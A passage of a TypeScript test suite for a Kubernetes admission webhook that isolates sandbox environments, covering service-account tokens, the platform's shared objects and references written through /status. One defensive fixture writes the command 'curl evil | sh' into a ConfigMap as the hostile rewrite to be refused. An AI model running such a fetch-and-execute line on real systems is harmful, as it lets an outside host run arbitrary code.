    review(SERVICE_ACCOUNTS, userInfo, { spec: { audiences: ['api'] } }, { subResource: 'token', name: account, requestKind: { group: 'authentication.k8s.io', version: 'v1', kind: 'TokenRequest' } });

  test("beta may not request a token of the service account alpha created; alpha may", () => {
    refused(tokenRequest(RUNNER_B, 'alpha-sa'), 'guard.service-account', /service account shared:alpha-sa is stamped for environment "alpha"; system:serviceaccount:sandbox-b:runner does not act for it, and may not request a token of it/);
    admitted(tokenRequest(RUNNER_A, 'alpha-sa'));
  });

  test("a token is handed out at once, so its account is read from the API server for a judged requester and for a token bound to a pod (the kubelet's); the pod by the token's uid", () => {
    const policy = testContext().policy;
    const plan = (body: Review) => planLookups(body, 'validate', FIXTURE_KEYS, policy).lookups;
    // beta's: the cache may still hold beta's account deleted since, alpha's made under the name.
    assert.deepEqual(plan(tokenRequest(RUNNER_B, 'alpha-sa')), [{ resource: 'serviceaccounts', namespace: 'shared', name: 'alpha-sa', fresh: true }]);
    const KUBELET: UserInfo = { username: 'system:node:node-1', groups: ['system:nodes', 'system:authenticated'], extra: {} };
    const refresh = tokenRequest(KUBELET, 'alpha-sa');
    (refresh.request.object as { spec: Record<string, unknown> }).spec.boundObjectRef = { apiVersion: 'v1', kind: 'Pod', name: 'alpha-bot', uid: 'alpha-bot-uid' };
    // The kubelet's, for a pod that may run as a name another environment has just taken: what the bound pod judges is the account standing now.
    assert.deepEqual(plan(refresh), [
      { resource: 'serviceaccounts', namespace: 'shared', name: 'alpha-sa', fresh: true },
      { resource: 'pods', namespace: 'shared', name: 'alpha-bot', uid: 'alpha-bot-uid' },
    ]);
    // A trusted requester's token bound to nothing is the cache's.
    assert.deepEqual(plan(tokenRequest(KUBELET, 'alpha-sa')), [{ resource: 'serviceaccounts', namespace: 'shared', name: 'alpha-sa' }]);
  });

  test("an unstamped account in a namespace bound to no environment is the platform's identity (rev-88): no environment's pod runs as it nor gets its token; a principal of no environment may; one Deed cannot read is refused", () => {
    // Its token acts for no environment, which may change the platform's objects: beta's pod running as it rewrote the platform's Deployment.
    refused(tokenRequest(RUNNER_B, 'plain-sa'), 'guard.service-account', /service account shared:plain-sa carries no stamps in a namespace bound to no environment: it is the platform's identity.*acts for "beta" and may not request a token of it/);
    refused(review(PODS, RUNNER_B, pod({}, { serviceAccountName: 'plain-sa' })), 'guard.service-account', /may not create a pod that runs as it \(create your own service account/);
    refused(review({ group: 'apps', version: 'v1', resource: 'deployments', kind: 'Deployment' }, RUNNER_B, { spec: { selector: { matchLabels: { app: 'x' } }, template: { metadata: { labels: { app: 'x' } }, spec: { serviceAccountName: 'plain-sa', containers: [{ name: 'main', image: 'registry.example/agent:1' }] } } } }), 'guard.service-account', /may not make pods that run as it from a Deployment template/);
    admitted(tokenRequest(NONE, 'plain-sa'));
    admitted(review(PODS, NONE, pod({}, { serviceAccountName: 'plain-sa' })));
    // The namespace's default account is every pod's that names none: still anyone's.
    admitted(review(PODS, RUNNER_B, pod()));
    refused(tokenRequest(RUNNER_B, 'slow-sa'), 'guard.service-account', /cannot tell whose service account shared:slow-sa is \(timed out after 2000 ms\)/);
  });

  test("beta's pod that runs as alpha's service account, and its token Secret naming it, are refused", () => {
    refused(review(PODS, RUNNER_B, pod({}, { serviceAccountName: 'alpha-sa' })), 'guard.service-account', /is stamped for environment "alpha"/);
    const secret = { type: 'kubernetes.io/service-account-token', metadata: { annotations: { 'kubernetes.io/service-account.name': 'alpha-sa' } } };
    refused(review({ group: '', version: 'v1', resource: 'secrets', kind: 'Secret' }, RUNNER_B, secret), 'guard.service-account', /is stamped for environment "alpha"/);
  });

  test("the kubelet's token for a pod is of the pod's environment's account only: a pod that kept a name alpha's account took later gets none", () => {
    const KUBELET: UserInfo = { username: 'system:node:node-1', groups: ['system:nodes', 'system:authenticated'], extra: {} };
    const bound = (pod: string) => {
      const body = tokenRequest(KUBELET, 'alpha-sa');
      (body.request.object as { spec: Record<string, unknown> }).spec.boundObjectRef = { apiVersion: 'v1', kind: 'Pod', name: pod, uid: `${pod}-uid` };
      return body;
    };
    refused(bound('stranger-bot'), 'guard.service-account', /service account shared:alpha-sa is stamped for environment "alpha"; pod stranger-bot is of no environment and gets no token of it/);
    refused(bound('beta-bot'), 'guard.service-account', /pod beta-bot is environment "beta"'s and gets no token of it/);
    refused(bound('slow-bot'), 'guard.service-account', /cannot tell whose pod shared\/slow-bot is \(timed out after 2000 ms\)/);
    admitted(bound('alpha-bot'));
    admitted(tokenRequest(KUBELET, 'alpha-sa'), undefined);
    assert.deepEqual(
      lookupsNeeded(bound('stranger-bot').request, 'validate', FIXTURE_KEYS).map((k) => k.resource),
      ['serviceaccounts', 'pods'],
      'the read plan names the bound pod',
    );
    const plain = bound('stranger-bot');
    plain.request.name = 'plain-sa';
    admitted(plain);
  });

  test("the namespace's default account is never read: the service-account controller makes it, unreviewed and unstamped", () => {
    const body = review(PODS, RUNNER_B, pod());
    assert.deepEqual(lookupsNeeded(body.request, 'admit', FIXTURE_KEYS).filter((k) => k.resource === 'serviceaccounts'), []);
  });
});

describe("the platform's unstamped inputs are no environment's to rewrite", () => {
  const CONFIGMAPS: Gvr = { group: '', version: 'v1', resource: 'configmaps', kind: 'ConfigMap' };
  const CLAIMS: Gvr = { group: 'resource.k8s.io', version: 'v1', resource: 'resourceclaims', kind: 'ResourceClaim' };
  const rewrite = (g: Gvr, userInfo: UserInfo, namespace = NS) => review(g, userInfo, { data: { 'run.sh': 'curl evil | sh' } }, { operation: 'UPDATE', old: { data: { 'run.sh': 'echo hi' } }, name: 'settings', namespace });

  test("beta may neither rewrite nor delete an unstamped ConfigMap that any environment's pods may run", () => {
    refused(rewrite(CONFIGMAPS, RUNNER_B), 'guard.shared-input', /ConfigMap shared\/settings carries no stamps: it is the platform's, and any environment's pods may read it; system:serviceaccount:sandbox-b:runner acts for "beta" and may not change or delete it/);
    const del = rewrite(CONFIGMAPS, RUNNER_B);
    del.request.operation = 'DELETE';
    del.request.object = null;
    refused(del, 'guard.shared-input');
    refused(rewrite(CLAIMS, RUNNER_A), 'guard.shared-input', /ResourceClaim shared\/settings carries no stamps/);
  });

  test("beta may neither change nor delete the platform's unstamped Deployment, Service or Ingress: what it runs, serves or routes reaches every environment", () => {
    // rev-82: beta's image in the platform's Deployment, behind the platform's Service, received alpha's sandboxes' calls.
    const DEPLOYMENTS: Gvr = { group: 'apps', version: 'v1', resource: 'deployments', kind: 'Deployment' };
    const SERVICES: Gvr = { group: '', version: 'v1', resource: 'services', kind: 'Service' };
    const INGRESSES: Gvr = { group: 'networking.k8s.io', version: 'v1', resource: 'ingresses', kind: 'Ingress' };
    const template = (image: string) => ({ spec: { selector: { matchLabels: { app: 'web' } }, template: { metadata: { labels: { app: 'web' } }, spec: { containers: [{ name: 'web', image }] } } } });
    const image = (who: UserInfo) => review(DEPLOYMENTS, who, template('registry.example/beta-mitm:1'), { operation: 'UPDATE', old: template('registry.example/web:1'), name: 'platform-web', namespace: NS });
    refused(image(RUNNER_B), 'guard.shared-input', /Deployment shared\/platform-web carries no stamps: it is the platform's, and what it runs, serves or routes reaches every environment; system:serviceaccount:sandbox-b:runner acts for "beta" and may not change or delete it/);
    const selector = review(SERVICES, RUNNER_B, { spec: { selector: { app: 'beta-web' } } }, { operation: 'UPDATE', old: { spec: { selector: { app: 'web' } } }, name: 'platform-web', namespace: NS });
    refused(selector, 'guard.shared-input', /Service shared\/platform-web carries no stamps/);
    const del = review(INGRESSES, RUNNER_B, { spec: {} }, { operation: 'UPDATE', old: { spec: {} }, name: 'platform-web', namespace: NS });
    del.request.operation = 'DELETE';
    del.request.object = null;
    refused(del, 'guard.shared-input', /Ingress shared\/platform-web carries no stamps/);
    // A principal of no environment (the platform's deployers, a tenant's own chart) still may; so may alpha in a namespace bound to it.
    admitted(image(NONE));
  });

  test("beta may not add its pull secret to the namespace's default service account, whose image pull secrets the API server copies into every pod that runs as it, nor replace the platform's ResourceClaimTemplate", () => {
    const ACCOUNTS: Gvr = { group: '', version: 'v1', resource: 'serviceaccounts', kind: 'ServiceAccount' };
    const pull = review(ACCOUNTS, RUNNER_B, { imagePullSecrets: [{ name: 'beta-pull' }] }, { operation: 'UPDATE', old: {}, name: 'default', namespace: NS });
    refused(pull, 'guard.shared-input', /ServiceAccount shared\/default carries no stamps: it is the platform's/);
    // Nor a tenant of no environment: beta's pods would then be refused (or use its Secret). Its other changes, and the platform's, pass.
    const added = review(ACCOUNTS, NONE, { imagePullSecrets: [{ name: 'alpha-pull' }] }, { operation: 'UPDATE', old: { imagePullSecrets: [{ name: 'platform-pull' }] }, name: 'default', namespace: NS });
    refused(added, 'guard.shared-input', /ServiceAccount shared\/default carries no stamps: it is the platform's, and the API server copies its image pull secrets into every pod that runs as it, any environment's; stranger acts for no environment and may not change them/);
    admitted({ ...added, request: { ...added.request, object: { ...added.request.object, imagePullSecrets: [{ name: 'platform-pull' }], metadata: { ...added.request.object.metadata, labels: { team: 'x' } } } } });
    admitted({ ...added, request: { ...added.request, userInfo: { username: 'system:serviceaccount:argocd:argocd-application-controller', groups: ['system:serviceaccounts'], extra: {} } } });
    // Where the policy maps a namespace's accounts to one environment (sandbox-b:*), its default account is that environment's to keep, and no other's.
    const own = review(ACCOUNTS, RUNNER_B, { imagePullSecrets: [{ name: 'beta-pull' }] }, { operation: 'UPDATE', old: {}, name: 'default', namespace: 'sandbox-b' });
    admitted(own);
    refused({ ...own, request: { ...own.request, userInfo: RUNNER_A } }, 'guard.mapped-account', /service account sandbox-b:default is an environment's identity \(policy: environments\[\]\.serviceAccounts\), and system:serviceaccount:sandbox-a:runner does not act for that environment/);
    const TEMPLATES: Gvr = { group: 'resource.k8s.io', version: 'v1', resource: 'resourceclaimtemplates', kind: 'ResourceClaimTemplate' };
    const del = review(TEMPLATES, RUNNER_B, { spec: { spec: {} } }, { operation: 'UPDATE', old: { spec: { spec: {} } }, name: 'gpu', namespace: NS });
    del.request.operation = 'DELETE';
    del.request.object = null;
    refused(del, 'guard.shared-input', /ResourceClaimTemplate shared\/gpu carries no stamps/);
  });

  test("a service account the policy maps to an environment is created, changed and deleted only by who acts for it and the platform", () => {
    const MANAGER: UserInfo = { username: 'system:serviceaccount:platform:runner-controller', groups: ['system:serviceaccounts', 'system:authenticated'], extra: {} };
    const GAMMA_RUNNER: UserInfo = { username: 'system:serviceaccount:shared:runner-gamma', groups: ['system:serviceaccounts', 'system:authenticated'], extra: {} };
    const create = (who: UserInfo, name = 'runner-gamma') => review(SERVICE_ACCOUNTS, who, {}, { name });
    const change = (who: UserInfo) => review(SERVICE_ACCOUNTS, who, { imagePullSecrets: [{ name: 'stranger-pull' }] }, { operation: 'UPDATE', old: {}, name: 'runner-gamma' });
    const remove = (who: UserInfo) => {
      const body = change(who);
      body.request.operation = 'DELETE';
      body.request.object = null;
      return body;
    };
    for (const write of [create, change, remove]) {
      // A tenant of no environment with `edit` in the namespace: deleting it would revoke the runner's tokens, creating it first would make it theirs.
      refused(write(NONE), 'guard.mapped-account', /service account shared:runner-gamma is an environment's identity \(policy: environments\[\]\.serviceAccounts\), and stranger does not act for that environment/);
      // Another environment, and the refusal names no environment.
      const message = refused(write(RUNNER_B), 'guard.mapped-account');
      assert.doesNotMatch(message, /gamma"|"beta"/);
      for (const who of [MANAGER, ARGO, GAMMA_RUNNER, ADMIN]) admitted(write(who));
    }
    // A namespace's `*` maps every account in it, one made with generateName included.
    const generated = review(SERVICE_ACCOUNTS, NONE, { metadata: { generateName: 'agent-' } }, { name: '', namespace: 'sandbox-b' });
    refused(generated, 'guard.mapped-account', /service account sandbox-b:\(generateName "agent-"\) is an environment's identity/);
    // An account no environment's mapping names is anyone's to write, as before.
    admitted(create(NONE, 'tenant-app'));
  });

  test("no environment creates a ConfigMap under a well-known name, which every pod may name unjudged; a principal of no environment may, where no controller keeps one", () => {
    for (const name of ['openshift-service-ca.crt', 'kube-root-ca.crt'])
      refused(review(CONFIGMAPS, RUNNER_B, { data: { 'service-ca.crt': 'beta CA' } }, { name }), 'configmap.well-known', new RegExp(`ConfigMap ${name.replace(/\./g, '\\.')} is one every pod may name unjudged \\(template\\.wellKnownConfigMaps\\), kept by a system controller; environment "beta" may not create one`));
    admitted(review(CONFIGMAPS, NONE, { data: { 'service-ca.crt': 'platform CA' } }, { name: 'openshift-service-ca.crt' }));
    admitted(review(CONFIGMAPS, RUNNER_B, { data: { 'service-ca.crt': 'beta CA' } }, { name: 'beta-service-ca.crt' }));
  });

  test('a principal of no environment, the platform and break-glass may; in a bound namespace the binding decides', () => {
    admitted(rewrite(CONFIGMAPS, NONE));
    admitted(rewrite(CONFIGMAPS, ARGO));
    admitted(rewrite(CONFIGMAPS, ADMIN));
    admitted(rewrite(CONFIGMAPS, RUNNER_A, 'sandbox-a'));
  });
});

describe("a custom resource's /scale", () => {
  const scale = (userInfo: UserInfo, namespace = NS) =>
    review(VMS, userInfo, { spec: { replicas: 0 } }, { operation: 'UPDATE', old: { spec: { replicas: 3 } }, subResource: 'scale', name: 'lab-vm', namespace, requestKind: { group: 'autoscaling', version: 'v1', kind: 'Scale' } });

  test('is refused where whose the object is cannot be known, naming the UPDATE that is judged instead', () => {
    refused(scale(RUNNER_B), 'guard.custom-scale', /cannot tell whose virtualmachines shared\/lab-vm is .*; change its replicas with an UPDATE of the object itself/);
    refused(scale(RUNNER_A), 'guard.custom-scale');
  });

  test("is admitted in a namespace bound to the requester's environment, and to break-glass", () => {
    admitted(scale(RUNNER_A, 'sandbox-a'));
    admitted(scale(ADMIN));
  });
});

describe('the read plan reads what the reference rules judge, and nothing else', () => {
  const cases: Array<[string, Review]> = [
    ['an autoscaler', review(HPA, RUNNER_B, hpa('Deployment', 'alpha-web'))],
    ['an Ingress with two backends', review(INGRESS, RUNNER_B, { spec: { defaultBackend: { service: { name: 'beta-svc', port: { number: 80 } } }, ...ingress('alpha-svc').spec } })],
    ['an EndpointSlice', review(SLICE, RUNNER_B, slice('alpha-svc'))],
    ['an HTTPRoute with a mirror and a backend in another namespace', review(HTTPROUTES, RUNNER_B, { spec: { rules: [{ ...mirrored('beta-svc', { name: 'alpha-svc' }).spec.rules[0], backendRefs: [{ name: 'alpha-api', namespace: 'sandbox-a', port: 80 }] }] } })],
    ['a Gateway', review(GATEWAYS, RUNNER_B, gateway({ name: 'alpha-tls' }, { name: 'beta-tls' }))],
    ['a VerticalPodAutoscaler', review(VPAS, RUNNER_B, vpa(target('alpha-web')))],
    ['a ScaledObject of the default target kind', review(SCALED_OBJECTS, RUNNER_B, scaledObject({ name: 'alpha-web' }))],
    ['a Rollout with a workloadRef', review(ROLLOUTS, RUNNER_B, rollout(target('alpha-web')))],
    ['a route attached to Gateways and a mesh Service', review(HTTPROUTES, RUNNER_B, attached({ name: 'alpha-gw' }, { name: 'shared-gw' }, { name: 'alpha-edge', namespace: 'sandbox-a' }, { group: '', kind: 'Service', name: 'alpha-svc' }))],
    ['a Certificate', review(CERTIFICATES, RUNNER_B, { spec: { secretName: 'alpha-tls', issuerRef: { name: 'alpha-ca' } } })],
    ['a CertificateRequest', review(CERTIFICATE_REQUESTS, RUNNER_B, { spec: { request: 'x', issuerRef: { name: 'beta-ca', kind: 'Issuer' } } })],
    ['an Ingress with an issuer annotation', review(INGRESS, RUNNER_B, { metadata: { annotations: { 'cert-manager.io/issuer': 'alpha-ca' } }, ...ingress('beta-svc') })],
    ['a pod with a controller', review(PODS, RUNNER_B, pod(controlledBy('Job', 'alpha-job', 'alpha-job-uid'), { serviceAccountName: 'alpha-sa' }))],
    ['a pod of a DRA claim', review(PODS, RUNNER_B, pod({}, { resourceClaims: [{ name: 'gpu', resourceClaimName: 'alpha-gpu' }] }))],
    ['a token request', review(SERVICE_ACCOUNTS, RUNNER_B, { spec: {} }, { subResource: 'token', name: 'alpha-sa', requestKind: { group: 'authentication.k8s.io', version: 'v1', kind: 'TokenRequest' } })],
  ];
  for (const [what, body] of cases) {
    test(`for ${what}, every read a reference rule makes was planned`, () => {
      const webhook = webhookOf(body);
      const planned = new Set(lookupsNeeded(body.request, webhook, FIXTURE_KEYS).map((k: LookupKey) => lookupKey(k)));
      const lookup = lookupOf(CLUSTER);
      answer(webhook, body, lookup);
      const unplanned = [...lookup.reads].filter((k) => !planned.has(k));
      assert.deepEqual(unplanned, [], `read but not planned: ${unplanned.join(', ')}`);
      assert.ok(lookup.reads.size > 0, 'the decision read something');
    });
  }

  test('the references of an Ingress are found at every backend, with their paths', () => {
    const refs = objectReferences({ group: 'networking.k8s.io', resource: 'ingresses' }, { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: {}, spec: { defaultBackend: { resource: { apiGroup: 'k8s.example.com', kind: 'StorageBucket', name: 'assets' } }, rules: [{ http: { paths: [{ backend: { service: { name: 'a' } } }, { backend: { service: { name: 'b' } } }] } }] } });
    assert.deepEqual(
      refs.map((r) => [r.path, r.group, r.kind, r.name]),
      [
        ['spec.defaultBackend.resource', 'k8s.example.com', 'StorageBucket', 'assets'],
        ['spec.rules[0].http.paths[0].backend.service.name', '', 'Service', 'a'],
        ['spec.rules[0].http.paths[1].backend.service.name', '', 'Service', 'b'],
      ],
    );
  });

  test('a hostile shape reads as no reference, never a crash', () => {
    for (const spec of [null, 'x', { rules: 'x' }, { rules: [null, { http: { paths: [{ backend: { service: { name: 7 } } }] } }] }])
      assert.deepEqual(objectReferences({ group: 'networking.k8s.io', resource: 'ingresses' }, { apiVersion: 'v1', kind: 'Ingress', metadata: {}, spec } as unknown as KubeObject), []);
  });
});

describe('references written through /status are judged as an UPDATE of the metadata the API server keeps', () => {
  const SERVICES: Gvr = { group: '', version: 'v1', resource: 'services', kind: 'Service' };
  /** A status write of the object `name`: `before` and `after` its metadata (the API server has already put back the old spec). */
  function statusWrite(g: Gvr, userInfo: UserInfo, base: Record<string, unknown>, before: Record<string, unknown>, after: Record<string, unknown>): Review {
    const body = review(g, userInfo, base, { operation: 'UPDATE', old: {}, subResource: 'status', name: 'obj' });
    const meta = body.request.object.metadata;
    body.request.oldObject = { ...body.request.object, metadata: { ...meta, ...before } };
    body.request.object = { ...body.request.object, metadata: { ...meta, ...after }, status: { loadBalancer: { ingress: [{ ip: '10.0.0.7' }] } } };
    return body;
  }
  const betaOwn = (kind: string) => owned(kind, 'beta', `beta-${kind}-uid`).metadata;
  const svc = { spec: { ports: [{ port: 80 }] } };
  const blocking = { apiVersion: 'apps/v1', kind: 'Deployment', name: 'alpha-web', uid: 'Deployment-uid', blockOwnerDeletion: true };
  const hold = { apiVersion: 'hold.example.com/v1', kind: 'Hold', name: 'anything', uid: 'Secret-uid', blockOwnerDeletion: true };
  const namesake = { apiVersion: 'v1', kind: 'ConfigMap', name: 'alpha-cron', uid: 'beta-cm-uid', controller: true };
  const job = { spec: { suspend: true, template: { spec: { restartPolicy: 'Never', containers: [{ name: 'main', image: 'registry.example/agent:1' }] } } } };
  const withNamesake = lookupOf({ ...CLUSTER, 'configmaps/shared/alpha-cron': owned('ConfigMap', 'beta', 'beta-cm-uid') });

  test("beta's blocking owner reference to alpha's Deployment, or to alpha's uid under a kind Deed does not read, is refused through services/status", () => {
    const own = betaOwn('Service');
    refused(statusWrite(SERVICES, RUNNER_B, svc, own, { ...own, ownerReferences: [blocking] }), 'reference.cross-environment', /metadata\.ownerReferences\[0\]: blocks the deletion of Deployment shared\/alpha-web, which belongs to another environment/);
    refused(statusWrite(SERVICES, RUNNER_B, svc, own, { ...own, ownerReferences: [hold] }), 'reference.unknown', /blocks the deletion of the object of uid Secret-uid, named as Hold shared\/anything \(hold\.example\.com\/v1\), a kind Deed does not read/);
    // Kept by a status write, not judged again; alpha's own, admitted.
    admitted(statusWrite(SERVICES, RUNNER_B, svc, { ...own, ownerReferences: [hold] }, { ...own, ownerReferences: [hold] }));
    const alphaOwn = owned('Service', 'alpha', 'alpha-svc-uid').metadata;
    admitted(statusWrite(SERVICES, RUNNER_A, svc, alphaOwn, { ...alphaOwn, ownerReferences: [blocking] }));
  });

  test("beta's Job may not take alpha's CronJob's name into its controller reference through jobs/status", () => {
    const own = betaOwn('Job');
    const body = statusWrite(JOBS, RUNNER_B, job, own, { ...own, ownerReferences: [namesake] });
    const r = answer('validate', body, withNamesake);
    assert.equal(r.allowed, false);
    assert.match(r.status?.message ?? '', /\[reference\.cross-environment\] metadata\.ownerReferences\[0\]\.name: names CronJob alpha-cron, which belongs to another environment/);
    // A status write that keeps it (the job controller's, or beta's own of its finished Job) is not judged again.
    assert.equal(answer('validate', statusWrite(JOBS, RUNNER_B, job, { ...own, ownerReferences: [namesake] }, { ...own, ownerReferences: [namesake] }), withNamesake).allowed, true);
  });

  test("beta's Ingress may not name alpha's Issuer in cert-manager's annotation through ingresses/status, nor change the shim's annotations beside the platform's kept issuer", () => {
    const own = betaOwn('Ingress');
    const web = { spec: { rules: [{ host: 'beta-web.example.com' }] } };
    const annotated = (issuer: string) => ({ ...own, annotations: { ...(own.annotations as Record<string, string>), 'cert-manager.io/issuer': issuer } });
    refused(statusWrite(INGRESS, RUNNER_B, web, own, annotated('alpha-ca')), 'reference.cross-environment', /metadata\.annotations\["cert-manager\.io\/issuer"\]: names Issuer alpha-ca, which belongs to another environment/);
    admitted(statusWrite(INGRESS, RUNNER_B, web, own, annotated('beta-ca')));
    // The platform's unstamped Ingress, whose kept issuer is alpha's: the shim's annotations beside it are judged on it.
    const platform = { annotations: { 'cert-manager.io/issuer': 'alpha-ca' } };
    refused(statusWrite(INGRESS, NONE, web, platform, { annotations: { ...platform.annotations, 'cert-manager.io/common-name': 'alpha-db.internal' } }), 'reference.cross-environment', /names Issuer alpha-ca, which belongs to another environment.*carries no stamps/);
  });

  test("a controller's status write that adds no reference is admitted: an ingress controller of no environment writing the load balancer of the platform's Ingress, alpha's writing its own, the job controller's", () => {
    const platform = { annotations: { 'cert-manager.io/issuer': 'alpha-ca' } };
    const lookup = lookupOf(CLUSTER);
    admitted(statusWrite(INGRESS, NONE, ingress('alpha-svc'), platform, platform), lookup);
    assert.deepEqual([...lookup.reads].filter((k) => k.startsWith('issuers/') || k.startsWith('services/')), [], 'kept references are not read again for a status write');
    // alpha's runner writing its own Ingress's status, which names alpha's Issuer and Service: kept, nothing judged.
    const alphaIng = owned('Ingress', 'alpha', 'alpha-ing-uid').metadata;
    const kept = { ...alphaIng, annotations: { ...(alphaIng.annotations as Record<string, string>), 'cert-manager.io/issuer': 'alpha-ca' } };
    admitted(statusWrite(INGRESS, RUNNER_A, ingress('alpha-svc'), kept, kept));
    // beta's status write of its own Ingress that keeps alpha's Issuer (written before Deed judged annotations): not this write's to refuse.
    const betaIng = betaOwn('Ingress');
    const held = { ...betaIng, annotations: { ...(betaIng.annotations as Record<string, string>), 'cert-manager.io/issuer': 'alpha-ca' } };
    admitted(statusWrite(INGRESS, RUNNER_B, ingress('beta-svc'), held, held));
    const JOB_CONTROLLER: UserInfo = { username: 'system:serviceaccount:kube-system:job-controller', groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'], extra: {} };
    const job2 = betaOwn('Job');
    assert.equal(answer('validate', statusWrite(JOBS, JOB_CONTROLLER, job, { ...job2, ownerReferences: [namesake] }, { ...job2, ownerReferences: [namesake] }), withNamesake).allowed, true);
  });

  const own = betaOwn('Service');
  const cases: Array<[string, Review]> = [
    ['a blocking owner reference through services/status', statusWrite(SERVICES, RUNNER_B, svc, own, { ...own, ownerReferences: [blocking] })],
    ['a CronJob namesake through jobs/status', statusWrite(JOBS, RUNNER_B, job, betaOwn('Job'), { ...betaOwn('Job'), ownerReferences: [namesake] })],
    ['an issuer annotation through ingresses/status', statusWrite(INGRESS, RUNNER_B, { spec: { rules: [{ host: 'b.example.com' }] } }, betaOwn('Ingress'), { ...betaOwn('Ingress'), annotations: { ...(betaOwn('Ingress').annotations as Record<string, string>), 'cert-manager.io/issuer': 'alpha-ca' } })],
    ["the shim's annotations beside the platform Ingress's kept issuer, through ingresses/status", statusWrite(INGRESS, NONE, ingress('alpha-svc'), { annotations: { 'cert-manager.io/issuer': 'alpha-ca' } }, { annotations: { 'cert-manager.io/issuer': 'alpha-ca', 'cert-manager.io/common-name': 'x' } })],
  ];
  for (const [what, body] of cases) {
    test(`the read plan reads what is judged of ${what}`, () => {
      const planned = new Set(lookupsNeeded(body.request, 'validate', FIXTURE_KEYS).map((k: LookupKey) => lookupKey(k)));
      const lookup = lookupOf({ ...CLUSTER, 'configmaps/shared/alpha-cron': owned('ConfigMap', 'beta', 'beta-cm-uid') });
      answer('validate', body, lookup);
      const unplanned = [...lookup.reads].filter((k) => !planned.has(k));
      assert.deepEqual(unplanned, [], `read but not planned: ${unplanned.join(', ')}`);
      assert.ok(lookup.reads.size > 0, 'the decision read something');
    });
  }
});
